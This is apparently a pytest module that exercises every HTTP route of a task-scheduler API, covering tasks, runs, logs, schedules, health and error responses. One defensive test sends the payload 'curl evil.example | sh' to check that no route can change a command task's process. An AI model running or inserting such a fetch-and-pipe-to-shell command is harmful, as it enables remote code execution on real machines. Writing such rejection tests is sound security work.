"""Every route of API.md and its status codes, over HTTP (transactional DB: the server sees the data)."""
from datetime import timedelta

import pytest

from tasks_app import services
from tasks_app.definitions.service import SERVICE_FIELDS
from tasks_app.definitions.validate import build_definition
from tasks_app.models import STATUS_FOR_REASON, Activity, EndReason, Run, RunStatus, RunTrigger, Task

from ..factories import make_run, make_task, number, string, write_log
from .conftest import assert_problem, make_key

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def manage_key():
    return make_key("tasks:manage")


def trigger(task, **kwargs):
    return services.trigger(task, source=RunTrigger.API, requested_by="test", **kwargs)


def ended_run(task, status=RunStatus.COMPLETED, reason=EndReason.SUCCESS, **fields):
    """A run row written directly, never queued: the session's qcluster (started by an earlier
    test module) could otherwise take it before the test sets its state."""
    assert STATUS_FOR_REASON[reason] == status
    return make_run(task, end_reason=reason, trigger=RunTrigger.API, triggered_by="test", **fields)


# --- Tasks ---------------------------------------------------------------------------------------


def test_list_tasks_with_filters(api, manage_key):
    make_task(id="nightly", type="report", cron_string="0 3 * * *")
    make_task(id="every", type="sync", interval=6, interval_unit="hours")
    make_task(id="adhoc", type="report", enabled=False)
    def ids(query=""):
        response = api.get(f"/api/tasks{query}", key=manage_key)
        assert response.status_code == 200
        return [task["id"] for task in response.json()["tasks"]]
    assert ids() == ["adhoc", "every", "nightly"]
    assert ids("?type=report") == ["adhoc", "nightly"]
    assert ids("?trigger=scheduled") == ["every", "nightly"]
    assert ids("?trigger=manual") == ["adhoc"]
    assert ids("?enabled=false") == ["adhoc"]
    assert ids("?kind=python&enabled=true") == ["every", "nightly"]
    body = assert_problem(api.get("/api/tasks?enabled=maybe", key=manage_key), 400, "invalid-query")
    assert body["errors"][0]["location"] == "query.enabled"


def test_task_object_matches_the_contract(api, manage_key):
    make_task(id="every", title="Every", interval=6, interval_unit="hours", parameters=[string("region", "eu")])
    task = api.get("/api/tasks/every", key=manage_key).json()
    assert set(task) == {
        "id", "title", "description", "type", "kind", "trigger", "enabled", "manual_run", "cron_string", "timezone",
        "interval", "interval_unit", "default_interval", "last_run_at", "next_run_at", "status", "supports_cancel",
        "supports_history", "supports_dry_run", "parameters", "policy", "process", "service_state", "instances",
        "watcher",
    }
    assert task["service_state"] is None and task["instances"] is None and task["watcher"] is None
    assert (task["trigger"], task["interval"], task["interval_unit"], task["cron_string"]) == ("scheduled", 6, "hours", "")
    assert task["status"] == "idle" and task["process"] is None
    assert task["parameters"][0] == {"key": "region", "type": "string", "kind": "option", "required": False,
                                     "default": "eu", "choices": [], "allow_custom": False, "description": ""}
    assert set(task["policy"]) == {"on_overlap", "max_concurrent", "queue_max", "timeout", "retry_attempts",
                                   "retry_backoff", "retry_delay", "catch_up", "max_catch_up_runs", "jitter",
                                   "keep_runs", "keep_for", "run_on_start"}
    assert_problem(api.get("/api/tasks/nope", key=manage_key), 404, "task-not-found")


def command_task(**overrides):
    """A command task as the definitions sync writes one (its process settings checked and complete)."""
    definition = build_definition("backup", {"kind": "command", "command": 'rsync -a "$SRC" /dst "$@"',
                                             "env": {"SRC": "/srv"}, "secrets_file": "/etc/td/s.env",
                                             "stop_signal": "INT", **overrides}, source="file")
    services.sync_definitions([definition])
    return Task.objects.get(pk="backup")


def test_a_command_tasks_object_shows_its_process_settings(api, manage_key):
    task = command_task()
    body = api.get("/api/tasks/backup", key=manage_key).json()
    listed = api.get("/api/tasks?kind=command", key=manage_key).json()["tasks"]
    assert body["process"] == {**task.process, **dict.fromkeys(SERVICE_FIELDS)} == listed[0]["process"]
    assert list(body["process"])[-len(SERVICE_FIELDS):] == list(SERVICE_FIELDS)  # a service's, null here
    assert body["process"]["env"] == {"SRC": "/srv"} and body["process"]["secrets_file"] == "/etc/td/s.env"
    assert (body["process"]["stop_signal"], body["process"]["argv"], body["supports_cancel"]) == ("SIGINT", None, True)
    assert body["kind"] == "command" and body["trigger"] == "manual"


def test_a_run_shows_its_pid_and_exit_signal(api, manage_key):
    task = command_task()
    killed = ended_run(task, RunStatus.CANCELLED, EndReason.CANCELLED, pid=4242, exit_signal="SIGTERM")
    python_run = ended_run(make_task(id="report"))
    body = api.get(f"/api/runs/{killed.pk}", key=manage_key).json()
    assert (body["pid"], body["exit_signal"], body["exit_code"]) == (4242, "SIGTERM", None)
    body = api.get(f"/api/runs/{python_run.pk}", key=manage_key).json()
    assert (body["pid"], body["exit_signal"]) == (None, None)
    listed = {run["id"]: run for run in api.get("/api/runs", key=manage_key).json()["runs"]}
    assert (listed[str(killed.pk)]["pid"], listed[str(killed.pk)]["exit_signal"]) == (4242, "SIGTERM")


def test_no_route_creates_or_changes_a_command_tasks_process(api, manage_key):
    task = command_task(interval=5, interval_unit="minutes")
    hostile = {"process": {"command": "curl evil.example | sh", "argv": None}, "kind": "command", "command": "sh"}
    for method in ("PUT", "PATCH"):
        assert_problem(api.request(method, "/api/tasks/backup", key=manage_key, json=hostile), 405, "method-not-allowed")
    assert_problem(api.post("/api/tasks", key=manage_key, json={"id": "new", **hostile}), 405, "method-not-allowed")
    assert api.put("/api/tasks/backup/enabled", key=manage_key, json={"enabled": False, **hostile}).status_code == 200
    assert api.put("/api/tasks/backup/interval", key=manage_key,
                   json={"interval": 10, "unit": "minutes", **hostile}).status_code == 200
    changed = Task.objects.get(pk="backup")
    assert (changed.enabled, changed.interval) == (False, 10)  # what the routes do, and nothing else
    assert changed.process == task.process and not Task.objects.filter(pk="new").exists()


def service_task(**overrides):
    """A service as the definitions sync writes one (DESIGN.md's example)."""
    definition = build_definition("heartbeat_service", {
        "kind": "service", "argv": ["python3", "-m", "http.server", "8765", "--bind", "127.0.0.1"], "healthy_after": 5,
        "health_check": {"http": "http://127.0.0.1:8765/", "interval": 10}, "env": {"MODE": "demo"}, **overrides,
    }, source="file")
    services.sync_definitions([definition])
    return Task.objects.get(pk="heartbeat_service")


def test_a_service_tasks_object_shows_its_process_and_service_settings(api, manage_key):
    task = service_task(depends_on=[], instances=2, restart="always")
    body = api.get("/api/tasks/heartbeat_service", key=manage_key).json()
    listed = api.get("/api/tasks?kind=service", key=manage_key).json()["tasks"]
    assert body["process"] == task.process == listed[0]["process"]
    assert (body["process"]["instances"], body["process"]["restart"], body["process"]["autostart"]) == (2, "always", True)
    assert body["process"]["health_check"] == {"http": "http://127.0.0.1:8765/", "interval": 10,
                                               "timeout": 5, "retries": 3}
    assert (body["process"]["compose"], body["process"]["env"], body["process"]["stop_signal"]) == (None, {"MODE": "demo"},
                                                                                                   "SIGTERM")
    assert (body["kind"], body["trigger"], body["manual_run"], body["supports_cancel"]) == ("service", "service", False,
                                                                                            True)
    assert body["policy"]["timeout"] is None and body["policy"]["retry_attempts"] == 0


def test_running_a_service_is_409_use_restart_and_no_route_changes_its_settings(api, manage_key):
    task = service_task()
    body = assert_problem(api.post("/api/tasks/heartbeat_service/run", key=manage_key, json={"force": True}), 409,
                          "use-restart")
    assert body == {"type": "/api/problems/use-restart", "title": "Use restart for a service", "status": 409,
                    "detail": "Task 'heartbeat_service' is a service, kept running by its supervisor: restart it, "
                              "do not run it.",
                    "instance": "/api/tasks/heartbeat_service/run"}
    assert not Run.objects.exists()
    for method in ("PUT", "PATCH"):
        assert_problem(api.request(method, "/api/tasks/heartbeat_service", key=manage_key,
                                   json={"process": {"instances": 9}}), 405, "method-not-allowed")
    assert_problem(api.put("/api/tasks/heartbeat_service/schedule", key=manage_key,
                           json={"cron_string": "* * * * *"}), 400, "not-cron-scheduled")
    assert_problem(api.put("/api/tasks/heartbeat_service/interval", key=manage_key,
                           json={"interval": 1, "unit": "minutes"}), 400, "not-interval-scheduled")
    assert Task.objects.get(pk="heartbeat_service").process == task.process
    for slug, title in (("use-restart", "Use restart for a service"), ("not-a-service", "Not a service")):
        page = api.get(f"/api/problems/{slug}")
        assert page.status_code == 200 and title in page.text and "HTTP 409" in page.text
        assert slug in api.get("/api/problems/").text


def test_run_a_task(api, manage_key):
    # Cooperative: if the session's worker cluster takes the run, it runs until cancelled below,
    # so the second trigger meets it in progress whatever the timing.
    make_task(id="report", callable="tests.sample_tasks.cooperative",
              parameters=[string("region", choices=["eu", "us"]), number("limit", 5), number("seconds", 30)])
    response = api.post("/api/tasks/report/run", key=manage_key, json={"parameters": {"region": "us"}})
    assert response.status_code == 202
    body = response.json()
    assert set(body) == {"run_id", "task_id", "status", "created_at", "enqueued_at"}
    assert body["status"] == "queued" and body["created_at"].endswith("Z")
    run = Run.objects.get(pk=body["run_id"])
    assert run.parameters == {"region": "us", "limit": 5, "seconds": 30} and run.triggered_by.startswith("key:")
    body = assert_problem(api.post("/api/tasks/report/run", key=manage_key), 409, "already-running")
    assert str(run.pk) in body["detail"]
    assert api.post("/api/tasks/report/run", key=manage_key, json={"force": True}).status_code == 202
    services.cancel_task("report")


def test_run_refusals(api, manage_key):
    make_task(id="report", parameters=[string("region", choices=["eu", "us"])])
    make_task(id="off", enabled=False)
    make_task(id="hidden", manual_run=False)
    # Holds its slot until cancelled, whether or not the session's qcluster has started a worker.
    make_task(id="queued", on_overlap="queue", queue_max=0, callable="tests.sample_tasks.cooperative")
    body = assert_problem(api.post("/api/tasks/report/run", key=manage_key, json={"parameters": {"region": "mars"}}),
                          400, "invalid-parameters")
    assert body["errors"] == [{"location": "body.parameters.region", "message": "Must be one of: eu, us.", "value": "mars"}]
    assert_problem(api.post("/api/tasks/report/run", key=manage_key, json={"dry_run": True}), 400, "dry-run-unsupported")
    body = assert_problem(api.post("/api/tasks/report/run", key=manage_key, json={"dry_run": "sometimes"}), 400,
                          "invalid-request")
    assert body["errors"][0]["location"] == "body.dry_run"
    assert_problem(api.post("/api/tasks/report/run", key=manage_key, data="{not json",
                            headers={"Content-Type": "application/json"}), 400, "malformed-request")
    assert_problem(api.post("/api/tasks/off/run", key=manage_key), 409, "task-disabled")
    assert_problem(api.post("/api/tasks/hidden/run", key=manage_key), 409, "not-manually-runnable")
    assert api.post("/api/tasks/queued/run", key=manage_key).status_code == 202
    assert_problem(api.post("/api/tasks/queued/run", key=manage_key), 409, "queue-full")
    services.cancel_task("queued")
    assert_problem(api.post("/api/tasks/nope/run", key=manage_key), 404, "task-not-found")


def test_cancel_a_task(api, manage_key):
    task = make_task(id="report", on_overlap="queue", queue_max=3, callable="tests.sample_tasks.cooperative")
    assert_problem(api.post("/api/tasks/report/cancel", key=manage_key), 400, "not-running")
    runs = [trigger(task), trigger(task)]
    response = api.post("/api/tasks/report/cancel", key=manage_key)
    assert response.status_code == 200
    assert response.json() == {"task_id": "report", "run_ids": [str(run.pk) for run in runs], "status": "cancelling"}
    running = trigger(make_task(id="stubborn", supports_cancel=False))
    Run.objects.filter(pk=running.pk).update(status=RunStatus.RUNNING)
    assert_problem(api.post("/api/tasks/stubborn/cancel", key=manage_key), 400, "cancel-unsupported")
    assert_problem(api.post("/api/tasks/nope/cancel", key=manage_key), 404, "task-not-found")


def test_enable_and_disable(api, manage_key):
    make_task(id="report", interval=10, interval_unit="minutes")
    response = api.put("/api/tasks/report/enabled", key=manage_key, json={"enabled": False})
    assert response.status_code == 200 and response.json()["enabled"] is False and response.json()["next_run_at"] is None
    response = api.put("/api/tasks/report/enabled", key=manage_key, json={"enabled": True})
    assert response.json()["enabled"] is True and response.json()["next_run_at"] is not None
    assert "enabled" in Task.objects.get(pk="report").overrides
    assert_problem(api.put("/api/tasks/report/enabled", key=manage_key, json={}), 400, "invalid-request")
    assert_problem(api.put("/api/tasks/nope/enabled", key=manage_key, json={"enabled": True}), 404, "task-not-found")


def test_change_the_interval(api, manage_key):
    make_task(id="every", interval=10, interval_unit="minutes")
    make_task(id="nightly", cron_string="0 3 * * *")
    response = api.put("/api/tasks/every/interval", key=manage_key, json={"interval": 6, "unit": "hours"})
    assert response.status_code == 200
    body = response.json()
    assert (body["task_id"], body["interval"], body["interval_unit"]) == ("every", 6, "hours")
    assert body["next_run_at"] == api.get("/api/tasks/every", key=manage_key).json()["next_run_at"] is not None
    for bad in ({"interval": 1.5, "unit": "hours"}, {"interval": 0, "unit": "hours"}, {"interval": "6", "unit": "hours"},
                {"interval": True, "unit": "hours"}):
        errors = assert_problem(api.put("/api/tasks/every/interval", key=manage_key, json=bad), 400, "invalid-request")["errors"]
        assert errors[0]["location"] == "body.interval"
    errors = assert_problem(api.put("/api/tasks/every/interval", key=manage_key, json={"interval": 2, "unit": "weeks"}),
                            400, "invalid-request")["errors"]
    assert errors[0]["location"] == "body.unit"
    assert_problem(api.put("/api/tasks/nightly/interval", key=manage_key, json={"interval": 2, "unit": "hours"}),
                   400, "not-interval-scheduled")
    assert_problem(api.put("/api/tasks/nope/interval", key=manage_key, json={"interval": 2, "unit": "hours"}),
                   404, "task-not-found")


def test_change_the_cron_schedule(api, manage_key):
    make_task(id="nightly", cron_string="0 3 * * *")
    make_task(id="every", interval=10, interval_unit="minutes")
    response = api.put("/api/tasks/nightly/schedule", key=manage_key,
                       json={"cron_string": "30 2 * * *", "timezone": "Europe/Paris"})
    assert response.status_code == 200
    task = response.json()
    assert (task["cron_string"], task["timezone"]) == ("30 2 * * *", "Europe/Paris")
    assert task["next_run_at"].endswith(("00:30:00Z", "01:30:00Z"))  # 02:30 in Paris, in UTC
    for body, location in (({"cron_string": "61 * * * *"}, "body.cron_string"),
                           ({"cron_string": "* * * * *", "timezone": "Mars/Olympus"}, "body.timezone")):
        errors = assert_problem(api.put("/api/tasks/nightly/schedule", key=manage_key, json=body), 400, "invalid-request")["errors"]
        assert errors[0]["location"] == location
    assert_problem(api.put("/api/tasks/every/schedule", key=manage_key, json={"cron_string": "* * * * *"}),
                   400, "not-cron-scheduled")
    assert_problem(api.put("/api/tasks/nope/schedule", key=manage_key, json={"cron_string": "* * * * *"}),
                   404, "task-not-found")


def test_history_pages_newest_first(api, manage_key):
    task = make_task(id="report")
    runs = [ended_run(task) for _ in range(5)]
    Run.objects.filter(pk=runs[1].pk).update(status=RunStatus.FAILED, end_reason=EndReason.FAILED)
    for index, run in enumerate(runs):
        Run.objects.filter(pk=run.pk).update(created_at=run.created_at + timedelta(seconds=index))
    response = api.get("/api/tasks/report/history?limit=2&page=1", key=manage_key)
    body = response.json()
    assert [run["id"] for run in body["history"]] == [str(runs[4].pk), str(runs[3].pk)]
    assert body["pagination"] == {"page": 1, "limit": 2, "total": 5, "total_pages": 3}
    past = api.get("/api/tasks/report/history?limit=2&page=9", key=manage_key).json()
    assert past == {"history": [], "pagination": {"page": 9, "limit": 2, "total": 5, "total_pages": 3}}
    failed = api.get("/api/tasks/report/history?status=failed,cancelled", key=manage_key).json()
    assert [run["id"] for run in failed["history"]] == [str(runs[1].pk)]
    for query, location in (("limit=0", "query.limit"), ("limit=501", "query.limit"), ("limit=ten", "query.limit"),
                            ("page=0", "query.page"), ("page=1.5", "query.page"), ("status=done", "query.status")):
        body = assert_problem(api.get(f"/api/tasks/report/history?{query}", key=manage_key), 400, "invalid-query")
        assert body["errors"][0]["location"] == location
    assert_problem(api.get("/api/tasks/nope/history", key=manage_key), 404, "task-not-found")


# --- Runs -----------------------------------------------------------------------------------------


def test_list_runs_with_filters(api, manage_key):
    report, other = make_task(id="report"), make_task(id="other")
    failed = ended_run(report, RunStatus.FAILED, EndReason.FAILED)
    ended_run(report)
    ended_run(other)
    body = api.get("/api/runs?task=report&status=failed", key=manage_key).json()
    assert [run["id"] for run in body["runs"]] == [str(failed.pk)]
    assert body["pagination"]["total"] == 1
    assert api.get("/api/runs?trigger=api&limit=2", key=manage_key).json()["pagination"] == {
        "page": 1, "limit": 2, "total": 3, "total_pages": 2}
    assert_problem(api.get("/api/runs?limit=600", key=manage_key), 400, "invalid-query")


def test_a_run_is_202_while_active_and_200_once_ended_even_failed(api, manage_key):
    task = make_task(id="report")
    run = make_run(task)  # queued, and never handed to a worker
    response = api.get(f"/api/runs/{run.pk}", key=manage_key)
    assert response.status_code == 202 and response.json()["status"] == "queued"
    Run.objects.filter(pk=run.pk).update(status=RunStatus.FAILED, end_reason=EndReason.CRASHED,
                                         error="The worker running this run was lost.", traceback="Traceback (most...")
    response = api.get(f"/api/runs/{run.pk}", key=manage_key)
    assert response.status_code == 200
    body = response.json()
    assert (body["status"], body["end_reason"], body["task_title"]) == ("failed", "crashed", task.title)
    assert "traceback" not in body and "Traceback" not in response.text
    assert_problem(api.get("/api/runs/00000000-0000-0000-0000-000000000000", key=manage_key), 404, "run-not-found")
    assert_problem(api.get("/api/runs/not-a-uuid", key=manage_key), 404, "run-not-found")


def test_cancel_a_run(api, manage_key):
    task = make_task(id="report")
    queued = make_run(task)  # rows no worker is handed
    body = api.post(f"/api/runs/{queued.pk}/cancel", key=manage_key).json()
    assert (body["status"], body["end_reason"], body["cancel_requested"]) == ("cancelled", "cancelled", True)
    running = make_run(task, status=RunStatus.RUNNING)
    body = api.post(f"/api/runs/{running.pk}/cancel", key=manage_key).json()
    assert (body["status"], body["cancel_requested"]) == ("running", True)
    assert_problem(api.post(f"/api/runs/{queued.pk}/cancel", key=manage_key), 400, "run-ended")
    assert_problem(api.post("/api/runs/00000000-0000-0000-0000-000000000000/cancel", key=manage_key), 404, "run-not-found")


def test_activity_pages_oldest_first_with_filters(api, manage_key):
    run = ended_run(make_task(id="report"))
    for index in range(5):
        Activity.objects.create(run=run, item_id=f"movie:{index}", action="delete" if index % 2 else "keep",
                                status="failed" if index == 4 else "success", timestamp=run.created_at)
    body = api.get(f"/api/runs/{run.pk}/activity?limit=2&page=2", key=manage_key).json()
    assert [row["item_id"] for row in body["activity"]] == ["movie:2", "movie:3"]
    assert body["pagination"] == {"page": 2, "limit": 2, "total": 5, "total_pages": 3}
    assert body["activity"][0]["run_id"] == str(run.pk)
    assert [row["item_id"] for row in api.get(f"/api/runs/{run.pk}/activity?action=delete", key=manage_key).json()["activity"]] == ["movie:1", "movie:3"]
    assert [row["item_id"] for row in api.get(f"/api/runs/{run.pk}/activity?status=failed", key=manage_key).json()["activity"]] == ["movie:4"]
    assert_problem(api.get(f"/api/runs/{run.pk}/activity?limit=-1", key=manage_key), 400, "invalid-query")
    assert_problem(api.get("/api/runs/00000000-0000-0000-0000-000000000000/activity", key=manage_key), 404, "run-not-found")


def test_the_log_from_a_byte_offset(api, manage_key):
    run = write_log(ended_run(make_task(id="report")), "line one\nline two\n", at=100)
    response = api.get(f"/api/runs/{run.pk}/log", key=manage_key)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/plain")
    # The head the cap dropped keeps its offsets; a marker line stands in its place.
    assert response.text == "[taskdeck: 100 bytes dropped]\nline one\nline two\n" and response.headers["X-Log-Size"] == "118"
    assert api.get(f"/api/runs/{run.pk}/log?offset=40", key=manage_key).text == "[taskdeck: 60 bytes dropped]\nline one\nline two\n"
    assert api.get(f"/api/runs/{run.pk}/log?offset=100", key=manage_key).text == "line one\nline two\n"
    assert api.get(f"/api/runs/{run.pk}/log?offset=109", key=manage_key).text == "line two\n"
    past = api.get(f"/api/runs/{run.pk}/log?offset=500", key=manage_key)
    assert past.text == "" and past.headers["X-Log-Size"] == "118"
    assert_problem(api.get(f"/api/runs/{run.pk}/log?offset=-3", key=manage_key), 400, "invalid-query")
    assert_problem(api.get("/api/runs/00000000-0000-0000-0000-000000000000/log", key=manage_key), 404, "run-not-found")


def test_the_log_of_a_run_that_wrote_nothing_is_empty(api, manage_key):
    response = api.get(f"/api/runs/{ended_run(make_task(id='report')).pk}/log", key=manage_key)
    assert (response.status_code, response.text, response.headers["X-Log-Size"]) == (200, "", "0")


def test_binary_and_invalid_utf8_output_is_served_as_text_with_replacements(api, manage_key):
    raw = b"ok \xff\xfe caf\xe9 \x00\x01\x02 \xe2\x82\xac\n" + bytes(range(256))
    run = write_log(ended_run(make_task(id="report")), raw, chunk_size=7)
    response = api.get(f"/api/runs/{run.pk}/log", key=manage_key)
    assert response.status_code == 200 and response.headers["X-Log-Size"] == str(len(raw))
    assert response.content.decode("utf-8") == raw.decode("utf-8", "replace")  # valid UTF-8, nothing lost but bad bytes
    assert response.text.startswith("ok \ufffd\ufffd caf\ufffd \x00\x01\x02 €\n")


def test_a_long_log_is_sent_whole_from_any_offset_across_its_chunks(api, manage_key):
    lines = b"".join(b"line %06d \xe2\x82\xac\n" % index for index in range(40_000))  # ~760 KB, 3-byte characters
    run = write_log(ended_run(make_task(id="report")), lines, at=5, chunk_size=100_003)
    whole = api.get(f"/api/runs/{run.pk}/log", key=manage_key)
    assert whole.text == "[taskdeck: 5 bytes dropped]\n" + lines.decode()
    assert whole.headers["X-Log-Size"] == str(5 + len(lines))
    offset = 5 + lines.index(b"line 030000")
    assert api.get(f"/api/runs/{run.pk}/log?offset={offset}", key=manage_key).text == lines[offset - 5:].decode()


def test_delete_a_run(api, manage_key):
    task = make_task(id="report")
    active = make_run(task)
    assert_problem(api.delete(f"/api/runs/{active.pk}", key=manage_key), 409, "run-active")
    ended = ended_run(task)
    response = api.delete(f"/api/runs/{ended.pk}", key=manage_key)
    assert response.status_code == 204 and response.content == b""
    assert_problem(api.get(f"/api/runs/{ended.pk}", key=manage_key), 404, "run-not-found")
    assert_problem(api.delete(f"/api/runs/{ended.pk}", key=manage_key), 404, "run-not-found")
    assert [run["id"] for run in api.get("/api/runs", key=manage_key).json()["runs"]] == [str(active.pk)]


# --- Health, problems, unknown routes -------------------------------------------------------------


def test_health_needs_no_caller_and_reports_heartbeats(api):
    body = api.get("/api/health").json()
    assert body["status"] == "degraded" and body["checks"] == {"database": "ok", "workers": "none", "scheduler": "stale",
                                                               "supervisor": "idle"}
    services.beat("worker")
    services.beat("scheduler")
    body = api.get("/api/health").json()
    assert body["status"] == "ok" and body["checks"] == {"database": "ok", "workers": "ok", "scheduler": "ok",
                                                         "supervisor": "idle"}
    assert body["version"]
    make_task(id="web", kind="service", callable="", process={"argv": ["httpd"]})
    body = api.get("/api/health").json()
    assert body["status"] == "degraded" and body["checks"]["supervisor"] == "none"  # a service, and nobody to run it
    services.beat("supervisor")
    assert api.get("/api/health").json()["checks"]["supervisor"] == "ok"


def test_unknown_routes_and_methods_are_problems_too(api, manage_key):
    assert_problem(api.get("/api/nothing-here", key=manage_key), 404, "not-found")
    assert_problem(api.delete("/api/tasks/report", key=manage_key), 405, "method-not-allowed")
    page = api.get("/api/problems/already-running")
    assert page.status_code == 200 and "Task already running" in page.text
    assert "queue-full" in api.get("/api/problems/").text
    assert_problem(api.get("/api/problems/no-such-problem"), 404, "not-found")


# --- Found by schemathesis: each was a 500 or a body that did not match the schema -----------------


def test_a_page_far_past_the_end_is_empty_not_a_server_error(api, manage_key):
    make_task(id="report")
    for path in ("/api/runs", "/api/tasks/report/history"):
        body = api.get(f"{path}?page=99999999999999999999", key=manage_key).json()
        assert body["pagination"]["page"] == 99999999999999999999 and body["pagination"]["total"] == 0


def test_intervals_are_capped_at_ten_years(api, manage_key):
    make_task(id="every", interval=10, interval_unit="minutes")
    for body in ({"interval": 10715557316860, "unit": "minutes"}, {"interval": 3000000, "unit": "days"}):
        errors = assert_problem(api.put("/api/tasks/every/interval", key=manage_key, json=body), 400, "invalid-request")["errors"]
        assert errors[0]["location"] == "body.interval"
    assert api.put("/api/tasks/every/interval", key=manage_key, json={"interval": 3650, "unit": "days"}).status_code == 200


@pytest.mark.parametrize("cron", ["0 0 30 2 *", "* * 31 2 *", "0 3 * * * *", "@sometimes"])
def test_cron_strings_that_never_fire_or_have_six_fields_are_refused(api, manage_key, cron):
    make_task(id="nightly", cron_string="0 3 * * *")
    assert_problem(api.put("/api/tasks/nightly/schedule", key=manage_key, json={"cron_string": cron}), 400, "invalid-request")


def test_cron_aliases_and_leap_days_are_accepted(api, manage_key):
    make_task(id="nightly", cron_string="0 3 * * *")
    for cron in ("@daily", "0 0 29 2 *"):
        assert api.put("/api/tasks/nightly/schedule", key=manage_key, json={"cron_string": cron}).status_code == 200


def test_problems_are_json_even_when_the_client_asks_for_html(api):
    response = api.get("/api/tasks", headers={"Accept": "text/html"})
    assert_problem(response, 401, "not-authenticated")
